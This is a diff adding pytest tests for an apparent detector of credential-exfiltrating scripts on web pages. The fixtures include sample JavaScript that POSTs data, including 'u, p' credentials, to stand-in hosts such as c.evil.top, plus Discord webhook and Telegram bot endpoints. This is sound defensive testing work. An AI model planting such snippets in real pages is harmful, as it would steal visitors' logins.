@@ -76,6 +76,27 @@ def test_endpoints_need_a_credential_input_and_a_whole_address(spark):
     assert got == {("whole", "telegram_bot", f"api.telegram.org/bot{token}/sendMessage"), ("parts", "telegram_bot", token), ("otp", "form_relay", "formspree.io/f/abc")}
 
 
+def test_calls_that_post():
+    at = "https://c.evil.top/a"
+    yes = [f'fetch("{at}", {{method: "POST", body: JSON.stringify({{u, p}})}})', f"await fetch ( '{at}' , {{ headers: {{a: 'b', c: f(1, [2])}}, \"method\" : 'post' }} )", f'x.open("POST", "{at}")', f'axios.post(`{at}`, d)', f'$.post("{at}")', f'$.ajax({{url: "{at}", type: "POST", data: d}})', f'$.ajax({{data: {{url: "x"}}, method: "POST", url: "{at}"}})', f'navigator.sendBeacon("{at}", d)']
+    for code in yes:
+        assert exfil.posted_addresses(f"a(1);{code};b()") == [at], code
+    no = [f'fetch("{at}")', f'fetch("{at}", {{method: "GET"}})', f'fetch("{at}", {{body: {{method: "POST"}}}})', 'fetch("/login", {method: "POST"})', f'open("POST", "{at}")', f'store.post("{at}")', f'x.open("GET", "{at}")', f'fetch(u, {{method: "POST"}}); v = "{at}"', 'fetch(', f'$.ajax({{url: u, type: "POST"}}, "{at}")']
+    for code in no:
+        assert exfil.posted_addresses(code) == [], code
+
+
+def test_posts_and_endpoints_name_the_script(spark):
+    pages = spark.createDataFrame([(1, "https://shop.top/x", '<input type="password">'), (2, "https://shop.top/x", "<p>hi</p>"), (3, "https://shop.top", '<input type=password><script>fetch("https://a.evil.top/1", {method:"POST"})</script>')], "page_id int, url string, html string")
+    code = 'fetch("https://panel.collect.top:8443/save",{method:"POST"});$.post("https://www.");axios.post("https://localhost/x");fetch("https://api.shop.top/y",{method:"POST"});$.post("https://a.evil.top/2")'
+    scripts = spark.createDataFrame([(k, "https://shop.top/app.js", code + f'"https://canary.discord.com/api/webhooks/{"1" * 18}/abcDEF_ghi-JKL"') for k in (1, 2, 3)], "page_id int, place string, code string")
+    rules = spark.createDataFrame([("top", "exact")], "suffix string, kind string")
+    got = {tuple(r) for r in exfil.foreign_posts(pages, rules, spark.createDataFrame([], "site string"), scripts=scripts).collect()}
+    assert got == {(k, "https://panel.collect.top:8443", "https://panel.collect.top:8443/save", "https://shop.top/app.js") for k in (1, 3)} | {(1, "https://a.evil.top", "https://a.evil.top/2", "https://shop.top/app.js"), (3, "https://a.evil.top", "https://a.evil.top/1", "rendered DOM")}
+    ends = {(r.page_id, r.family, r.place) for r in exfil.endpoints(pages, scripts=scripts).collect()}
+    assert ends == {(k, "discord_webhook", "https://shop.top/app.js") for k in (1, 3)}
+
+
 def test_independent_signals(spark):
     cases = [([("a", ["x"]), ("b", ["x"])], 1), ([("a", ["x"]), ("b", ["y"])], 2), ([("a", ["x"]), ("a", ["y"])], 1), ([("a", ["x"]), ("a", ["z"]), ("b", ["x"])], 2), ([("a", ["x", "y"]), ("b", ["y"]), ("c", ["z"])], 2), ([("a", []), ("b", []), ("c", [])], 3), ([], 0)]
     df = spark.createDataFrame([(k, [s for s in own]) for k, (own, _) in enumerate(cases)], "k int, s array<struct<name string, artifacts array<string>>>")
